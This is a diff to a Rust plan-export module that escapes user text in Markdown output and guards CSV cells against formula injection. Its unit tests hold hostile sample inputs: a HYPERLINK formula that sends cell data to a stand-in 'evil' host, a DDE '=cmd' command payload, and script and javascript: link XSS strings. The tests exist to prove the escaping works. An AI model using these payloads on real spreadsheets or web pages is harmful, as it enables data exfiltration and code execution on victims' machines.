@@ -1,5 +1,10 @@
 //! The plan outside the app: the one-page Markdown a champion forwards internally, the
 //! milestones as CSV, and the import of an exported plan (its JSON) into a new document.
+//!
+//! Exports are inert: every piece of user text is escaped for where it lands, because the
+//! Markdown is pasted into wikis and mail and the CSV opened in spreadsheets. In Markdown no
+//! user text can make HTML, a link, an image or a heading; the one-pager emits no links of its
+//! own. In CSV no user cell can start a formula.
 
 use std::collections::BTreeMap;
 use std::fmt::Write as _;
@@ -32,9 +37,46 @@ fn text(value: Option<&str>) -> &str {
     value.unwrap_or("")
 }
 
-/// Markdown cell text: one line, pipes escaped.
-fn cell(value: &str) -> String {
-    value.replace('|', "\\|").replace(['\n', '\r'], " ")
+/// User text inside one line of Markdown (a heading, a table cell, a list item): on one line,
+/// HTML characters as entities, and every character that could start a link, an image, code,
+/// emphasis or a table cell backslash-escaped, so it renders as the text it is.
+fn inline(value: &str) -> String {
+    let mut out = String::with_capacity(value.len());
+    for c in value.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '~' => {
+                out.push('\\');
+                out.push(c);
+            }
+            '\n' | '\r' | '\t' => out.push(' '),
+            c if c.is_control() => {}
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// User text as paragraphs: [`inline`] per line, and what would start a block at the beginning
+/// of a line (a heading, a quote, a list item, a rule) escaped.
+fn paragraph(value: &str) -> String {
+    let lines: Vec<String> = value
+        .lines()
+        .map(|line| {
+            let escaped = inline(line.trim());
+            let digits = escaped.chars().take_while(char::is_ascii_digit).count();
+            match escaped.as_bytes().get(digits) {
+                Some(b'.' | b')') if digits > 0 => {
+                    format!("{}\\{}", &escaped[..digits], &escaped[digits..])
+                }
+                Some(b'#' | b'-' | b'+' | b'=') if digits == 0 => format!("\\{escaped}"),
+                _ => escaped,
+            }
+        })
+        .collect();
+    lines.join("\n")
 }
 
 /// The one-page plan: objective, go-live and why, milestones by workstream with owners and
@@ -42,24 +84,24 @@ fn cell(value: &str) -> String {
 pub fn markdown(plan: &Plan, moves: &[MovedDate]) -> String {
     let mut out = String::new();
     let meta = &plan.meta;
-    let _ = writeln!(out, "# {}\n", text(meta.title.as_deref()));
+    let _ = writeln!(out, "# {}\n", inline(text(meta.title.as_deref())));
     let _ = writeln!(
         out,
         "**{}** and **{}** · go-live **{}**\n",
-        text(meta.buyer_org.as_deref()),
-        text(meta.seller_org.as_deref()),
+        inline(text(meta.buyer_org.as_deref())),
+        inline(text(meta.seller_org.as_deref())),
         meta.go_live
             .map(format_date)
             .unwrap_or_else(|| "not set".into())
     );
     if let Some(objective) = &meta.objective {
-        let _ = writeln!(out, "## Objective\n\n{objective}\n");
+        let _ = writeln!(out, "## Objective\n\n{}\n", paragraph(objective));
     }
     if let Some(reason) = &meta.go_live_reason {
-        let _ = writeln!(out, "## Why this date\n\n{reason}\n");
+        let _ = writeln!(out, "## Why this date\n\n{}\n", paragraph(reason));
     }
     if let Some(cost) = &meta.cost_of_inaction {
-        let _ = writeln!(out, "## Cost of doing nothing\n\n{cost}\n");
+        let _ = writeln!(out, "## Cost of doing nothing\n\n{}\n", paragraph(cost));
     }
     if !plan.objectives.is_empty() {
         let _ = writeln!(
@@ -70,10 +112,10 @@ pub fn markdown(plan: &Plan, moves: &[MovedDate]) -> String {
             let _ = writeln!(
                 out,
                 "| {} | {} | {} | {} |",
-                cell(text(o.text.as_deref())),
-                cell(text(o.metric.as_deref())),
-                cell(text(o.baseline.as_deref())),
-                cell(text(o.target.as_deref()))
+                inline(text(o.text.as_deref())),
+                inline(text(o.metric.as_deref())),
+                inline(text(o.baseline.as_deref())),
+                inline(text(o.target.as_deref()))
             );
         }
         out.push('\n');
@@ -108,9 +150,9 @@ pub fn markdown(plan: &Plan, moves: &[MovedDate]) -> String {
                     out,
                     "| {} | {} | {} | {} | {} |",
                     m.due.map(format_date).unwrap_or_default(),
-                    cell(text(m.title.as_deref())),
+                    inline(text(m.title.as_deref())),
                     m.side.map(|s| s.as_str()).unwrap_or_default(),
-                    cell(
+                    inline(
                         m.owner
                             .as_ref()
                             .map(|o| o.name.as_str())
@@ -133,8 +175,8 @@ pub fn markdown(plan: &Plan, moves: &[MovedDate]) -> String {
             let _ = writeln!(
                 out,
                 "| {} | {} | {} | {} | {} |",
-                cell(text(s.name.as_deref())),
-                cell(text(s.title.as_deref())),
+                inline(text(s.name.as_deref())),
+                inline(text(s.title.as_deref())),
                 s.side.map(|v| v.as_str()).unwrap_or_default(),
                 s.role
                     .map(|v| v.as_str().replace('_', " "))
@@ -150,9 +192,9 @@ pub fn markdown(plan: &Plan, moves: &[MovedDate]) -> String {
             let _ = writeln!(
                 out,
                 "- **{}** ({}): {}",
-                text(r.text.as_deref()),
+                inline(text(r.text.as_deref())),
                 r.status.map(|s| s.as_str()).unwrap_or("open"),
-                text(r.mitigation.as_deref())
+                inline(text(r.mitigation.as_deref()))
             );
         }
         out.push('\n');
@@ -161,7 +203,7 @@ pub fn markdown(plan: &Plan, moves: &[MovedDate]) -> String {
         let _ = writeln!(
             out,
             "## What success looks like\n\n{}\n",
-            text(plan.success.definition.as_deref())
+            paragraph(text(plan.success.definition.as_deref()))
         );
     }
     let _ = writeln!(out, "## Date changes\n");
@@ -175,14 +217,14 @@ pub fn markdown(plan: &Plan, moves: &[MovedDate]) -> String {
         let _ = writeln!(
             out,
             "- {}: **{}** {} → {} ({days}) by {}{}",
-            m.on,
-            m.subject.as_deref().unwrap_or("Go-live"),
-            m.from,
-            m.to.as_deref().unwrap_or("no date"),
-            m.who,
+            inline(&m.on),
+            m.subject.as_deref().map_or("Go-live".to_owned(), inline),
+            inline(&m.from),
+            m.to.as_deref().map_or("no date".to_owned(), inline),
+            inline(&m.who),
             m.reason
                 .as_deref()
-                .map(|r| format!(": “{r}”"))
+                .map(|r| format!(": “{}”", inline(r)))
                 .unwrap_or_default()
         );
     }
@@ -200,7 +242,19 @@ fn workstream_words(name: &str) -> String {
     known
         .iter()
         .find(|(k, _)| *k == name)
-        .map_or_else(|| name.to_owned(), |(_, w)| (*w).to_owned())
+        .map_or_else(|| inline(name), |(_, w)| (*w).to_owned())
+}
+
+/// A CSV cell of user text: one that a spreadsheet would read as a formula (it starts with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'` (OWASP's rule against CSV
+/// injection), so it is shown as text and never evaluated. Values the export makes itself
+/// (dates, counts, negative day totals) are not passed through this.
+fn csv_text(value: &str) -> String {
+    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{value}")
+    } else {
+        value.to_owned()
+    }
 }
 
 /// A CSV field (RFC 4180): quoted when it holds a comma, quote or line break.
@@ -224,18 +278,24 @@ pub fn milestones_csv(plan: &Plan, moves: &[MovedDate]) -> String {
             .filter(|d| d.milestone_id.as_deref() == Some(m.id.as_str()))
             .collect();
         let days: i64 = mine.iter().filter_map(|d| d.days).sum();
+        // User text goes through `csv_text`; side, due, status and the counts are the export's.
         let fields = [
-            m.id.clone(),
-            m.workstream.clone().unwrap_or_default(),
-            m.title.clone().unwrap_or_default(),
+            csv_text(&m.id),
+            csv_text(m.workstream.as_deref().unwrap_or_default()),
+            csv_text(m.title.as_deref().unwrap_or_default()),
             m.side.map(|s| s.as_str().to_owned()).unwrap_or_default(),
-            m.owner.as_ref().map(|o| o.name.clone()).unwrap_or_default(),
+            csv_text(
+                m.owner
+                    .as_ref()
+                    .map(|o| o.name.as_str())
+                    .unwrap_or_default(),
+            ),
             m.due.map(format_date).unwrap_or_default(),
             m.status.unwrap_or(Status::NotStarted).as_str().to_owned(),
-            m.depends_on.join(" "),
+            csv_text(&m.depends_on.join(" ")),
             mine.len().to_string(),
             days.to_string(),
-            m.notes.clone().unwrap_or_default(),
+            csv_text(m.notes.as_deref().unwrap_or_default()),
         ];
         let row: Vec<_> = fields.iter().map(|f| csv_field(f)).collect();
         out.push_str(&row.join(","));
@@ -417,6 +477,119 @@ mod tests {
         assert_eq!(csv_field("a,b"), "\"a,b\"");
         assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
+    }
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_evaluate_start_with_a_quote() {
+        let check = |input: &str, expected: &str| assert_eq!(csv_field(&csv_text(input)), expected);
+        check(
+            "=HYPERLINK(\"http://evil\"&A1,\"Click\")",
+            "\"'=HYPERLINK(\"\"http://evil\"\"&A1,\"\"Click\"\")\"",
+        );
+        check("=1+2", "'=1+2");
+        check("+1", "'+1");
+        check("-2+3", "'-2+3");
+        check("@SUM(A1)", "'@SUM(A1)");
+        check("\tcmd", "'\tcmd");
+        check("\r=cmd", "\"'\r=cmd\"");
+        check("plain = text", "plain = text");
+        check("a-b", "a-b");
+        check("", "");
+    }
+
+    fn plan_with(title: &str, notes: &str) -> Plan {
+        let mut plan = Plan::default();
+        plan.meta.title = Some(title.to_owned());
+        plan.meta.objective = Some(notes.to_owned());
+        plan.milestones.push(crate::model::Milestone {
+            id: "m1".into(),
+            title: Some(title.to_owned()),
+            workstream: Some(title.to_owned()),
+            side: None,
+            owner: None,
+            due: None,
+            status: None,
+            depends_on: Vec::new(),
+            notes: Some(notes.to_owned()),
+            slip_reason: None,
+            order: None,
+        });
+        plan
+    }
+
+    #[test]
+    fn the_csv_export_quotes_user_text_but_not_its_own_numbers() {
+        let plan = plan_with("=cmd|' /C calc'!A0", "-notes");
+        let moves = [MovedDate {
+            subject: None,
+            milestone_id: Some("m1".into()),
+            from: "2027-05-01".into(),
+            to: Some("2027-04-20".into()),
+            days: Some(-11),
+            reason: None,
+            who: "x".into(),
+            on: "2027-04-01".into(),
+        }];
+        let csv = milestones_csv(&plan, &moves);
+        let row = csv.lines().nth(1).unwrap();
+        assert_eq!(
+            row,
+            "m1,'=cmd|' /C calc'!A0,'=cmd|' /C calc'!A0,,,,not_started,,1,-11,'-notes"
+        );
+    }
+
+    #[test]
+    fn markdown_user_text_is_inert() {
+        let check = |input: &str, expected: &str| assert_eq!(inline(input), expected, "{input:?}");
+        check(
+            "<img src=x onerror=alert(1)>",
+            "&lt;img src=x onerror=alert(1)&gt;",
+        );
+        check(
+            "[click](javascript:alert(1))",
+            "\\[click\\](javascript:alert(1))",
+        );
+        check("![x](http://t/p.png)", "!\\[x\\](http://t/p.png)");
+        check("a | b", "a \\| b");
+        check(
+            "**bold** _em_ `code` ~~s~~",
+            "\\*\\*bold\\*\\* \\_em\\_ \\`code\\` \\~\\~s\\~\\~",
+        );
+        check("AT&T \\ two\nlines", "AT&amp;T \\\\ two lines");
+        check("Ann (CFO), 45 days.", "Ann (CFO), 45 days.");
+        let para =
+            |input: &str, expected: &str| assert_eq!(paragraph(input), expected, "{input:?}");
+        para(
+            "# not a heading\n- not a list\n1. not ordered\n> no quote",
+            "\\# not a heading\n\\- not a list\n1\\. not ordered\n&gt; no quote",
+        );
+        para("+ x\n===\n  ## indented", "\\+ x\n\\===\n\\## indented");
+        para(
+            "Cut ramp time from 90 to 45 days",
+            "Cut ramp time from 90 to 45 days",
+        );
+    }
+
+    #[test]
+    fn the_markdown_export_has_no_html_and_no_links_from_user_text() {
+        let plan = plan_with(
+            "<img src=x onerror=alert(1)>",
+            "[click](javascript:alert(1)) <script>x</script>\n# Heading",
+        );
+        let md = markdown(&plan, &[]);
+        assert!(!md.contains('<'), "{md}");
+        // Brackets only escaped: nothing can close a link text.
+        assert!(!md.replace("\\]", "").contains(']'), "{md}");
+        assert!(
+            md.contains("# &lt;img src=x onerror=alert(1)&gt;\n"),
+            "{md}"
+        );
+        assert!(
+            md.contains(
+                "\\[click\\](javascript:alert(1)) &lt;script&gt;x&lt;/script&gt;\n\\# Heading"
+            ),
+            "{md}"
+        );
     }
 
     #[test]
